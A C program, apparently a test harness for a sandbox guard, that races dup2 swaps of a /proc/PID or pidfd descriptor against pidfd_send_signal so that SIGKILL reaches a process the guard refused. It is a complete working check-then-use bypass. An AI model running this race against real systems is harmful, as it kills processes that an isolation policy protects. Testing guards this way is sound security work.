// A signal to a process the check did not see (issue 13, kmod): pidfd_send_signal(2) takes a /proc/PID directory fd
// as well as a pidfd, and a thread dup2()s /proc/TARGET onto that fd number and back, while the main thread sends
// SIGKILL through it. The fd names a zombie child of ours otherwise (a signal to it is harmless and succeeds), so a
// guard that reads the fd before the kernel does lets the call through whenever it saw the zombie.
//   race_pidsignal TARGET TRIES [SOCK]
// With SOCK, the fd of TARGET is a pidfd received over SCM_RIGHTS on the unix socket SOCK (procreach sendpidfd, run
// outside the tree), for a tree whose policy refuses its opens of /proc/TARGET.
// Prints "tries N sent S refused R won W": S calls succeeded, R failed with EPERM, W = 1 when TARGET died (its
// /proc/TARGET/stat gone or in state Z or X; the loop stops there).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static int safe_fd, target_fd, slot;
static atomic_int stop;

/* Whether process @pid has died (a zombie its parent has not reaped yet counts). */
static int dead(int pid)
{
	char path[64], buf[512], *p;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return errno == ENOENT || errno == ESRCH;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 1;
	buf[n] = 0;
	p = strrchr(buf, ')'); // "pid (comm) S ...": comm may hold spaces and parentheses
	return p && p[1] == ' ' && (p[2] == 'Z' || p[2] == 'X');
}

/* A pidfd received from the unix socket @sock, or -1. */
static int recv_fd(const char *sock)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char byte, cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm;
	int s = socket(AF_UNIX, SOCK_STREAM, 0), tries, fd = -1;

	strncpy(a.sun_path, sock, sizeof(a.sun_path) - 1);
	for (tries = 0; connect(s, (struct sockaddr *)&a, sizeof(a)) < 0; tries++) {
		if (tries == 100)
			return -1;
		usleep(100000);
	}
	if (recvmsg(s, &m, 0) < 1 || !(cm = CMSG_FIRSTHDR(&m)) || cm->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	close(s);
	return fd;
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		dup2(target_fd, slot);
		dup2(safe_fd, slot);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	long tries, i, sent = 0, refused = 0;
	char path[64];
	pthread_t t;
	int target, won = 0;
	pid_t zombie;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 3 && argc != 4) {
		fprintf(stderr, "usage: race_pidsignal TARGET TRIES [SOCK]\n");
		return 2;
	}
	target = atoi(argv[1]);
	tries = atol(argv[2]);
	zombie = fork();
	if (zombie == 0)
		_exit(0);
	usleep(100000); // a zombie now: never reaped while we run
	snprintf(path, sizeof(path), "/proc/%d", zombie);
	safe_fd = open(path, O_RDONLY | O_DIRECTORY);
	snprintf(path, sizeof(path), "/proc/%d", target);
	target_fd = argc == 4 ? recv_fd(argv[3]) : open(path, O_RDONLY | O_DIRECTORY);
	if (safe_fd < 0 || target_fd < 0) {
		perror(argc == 4 ? "open /proc/PID or receive the pidfd" : "open /proc/PID");
		return 2;
	}
	slot = dup(safe_fd);
	pthread_create(&t, NULL, flipper, NULL);
	for (i = 0; i < tries; i++) {
		if (syscall(SYS_pidfd_send_signal, slot, SIGKILL, NULL, 0) == 0)
			sent++;
		else if (errno == EPERM)
			refused++;
		if (dead(target)) {
			won = 1;
			i++;
			break;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("tries %ld sent %ld refused %ld won %d\n", i, sent, refused, won);
	return 0;
}
